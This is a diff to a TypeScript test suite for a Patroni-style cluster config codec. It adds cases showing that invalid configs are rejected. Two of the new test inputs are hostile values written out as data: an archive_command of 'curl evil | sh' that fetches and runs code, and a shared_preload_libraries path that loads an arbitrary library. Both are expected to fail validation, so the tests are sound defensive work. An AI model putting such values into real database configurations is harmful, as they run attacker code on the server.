@@ -7,6 +7,8 @@ type Case = [label: string, raw: string, expected: unknown];
 
 const member = { conn_url: 'postgres://10.0.0.1:5432/postgres', api_url: 'http://10.0.0.1:8008/patroni', state: 'running' };
 const config = { ttl: 30, loop_wait: 10, retry_timeout: 10, maximum_lag_on_failover: 1048576 };
+/** What checkDynamic fills in for a config key that leaves the optional fields out. */
+const defaulted = { postgresql: { parameters: {} }, pause: false, failsafe_mode: true, synchronous_mode: false, synchronous_mode_strict: false };
 const GARBAGE = Symbol('garbage');
 
 const tables: Record<string, { parse: (raw: string) => codec.Parsed<unknown>; cases: Case[] }> = {
@@ -69,12 +71,18 @@ const tables: Record<string, { parse: (raw: string) => codec.Parsed<unknown>; ca
   config: {
     parse: codec.parseConfig,
     cases: [
-      ['without postgresql', JSON.stringify(config), { ...config, postgresql: { parameters: {} } }],
+      ['without postgresql: the rest defaulted as in bootstrap.dcs', JSON.stringify(config), { ...config, ...defaulted }],
       [
-        'full, foreign fields kept',
-        JSON.stringify({ ...config, pause: true, postgresql: { parameters: { max_connections: 100, wal_log_hints: 'on', hot_standby: true }, use_pg_rewind: true }, synchronous_mode: false }),
-        { ...config, pause: true, postgresql: { parameters: { max_connections: 100, wal_log_hints: 'on', hot_standby: true }, use_pg_rewind: true }, synchronous_mode: false },
+        'full',
+        JSON.stringify({ ...config, pause: true, postgresql: { parameters: { max_connections: 100, wal_log_hints: 'on', hot_standby: true } }, synchronous_mode: true }),
+        { ...config, ...defaulted, pause: true, postgresql: { parameters: { max_connections: 100, wal_log_hints: 'on', hot_standby: true } }, synchronous_mode: true },
       ],
+      // The same validator as the file's bootstrap.dcs: a foreign field is a typo as there.
+      ['foreign field', JSON.stringify({ ...config, postgresql: { parameters: {}, use_pg_rewind: true } }), GARBAGE],
+      ['empty object', '{}', GARBAGE],
+      ['ttl shorter than loop_wait + 2 * retry_timeout', JSON.stringify({ ...config, ttl: 20 }), GARBAGE],
+      ['archive_command (runs a command)', JSON.stringify({ ...config, postgresql: { parameters: { archive_command: 'curl evil | sh' } } }), GARBAGE],
+      ['shared_preload_libraries (loads code)', JSON.stringify({ ...config, postgresql: { parameters: { shared_preload_libraries: '/tmp/x.so' } } }), GARBAGE],
       ['bad JSON', '{ttl: 30}', GARBAGE],
       ['string ttl', JSON.stringify({ ...config, ttl: '30' }), GARBAGE],
       ['zero loop_wait', JSON.stringify({ ...config, loop_wait: 0 }), GARBAGE],
@@ -151,7 +159,7 @@ describe('dcs codec: serialize round-trips', () => {
   it('member, config, history, failover, sync, optime', () => {
     const m = { ...member, role: 'replica' as const, xlog_location: 5, tags: { nofailover: false } };
     assert.deepEqual(codec.parseMember(codec.serializeMember(m)), { ok: true, value: m });
-    const c = { ...config, postgresql: { parameters: { a: 1 } } };
+    const c = { ...config, ...defaulted, postgresql: { parameters: { work_mem: 1 } } };
     assert.deepEqual(codec.parseConfig(codec.serializeConfig(c)), { ok: true, value: c });
     const h: [number, number, string, string?, string?][] = [[1, 2, 'r', 't', 'n']];
     assert.deepEqual(codec.parseHistory(codec.serializeHistory(h)), { ok: true, value: h });
@@ -190,7 +198,8 @@ describe('dcs codec: buildClusterView', () => {
     assert.equal(view.members[1]!.role, 'master');
     assert.equal(view.initialize, '123');
     assert.equal(view.config, null);
-    assert.equal(view.configRevision, null);
+    assert.equal(view.configRevision, '7', 'an invalid config keeps its revision: PUT /config can replace it');
+    assert.match(view.configError ?? '', /config\.ttl/);
     assert.deepEqual(view.history, []);
     assert.equal(view.failover, null);
     assert.equal(view.leaderOptime, null);
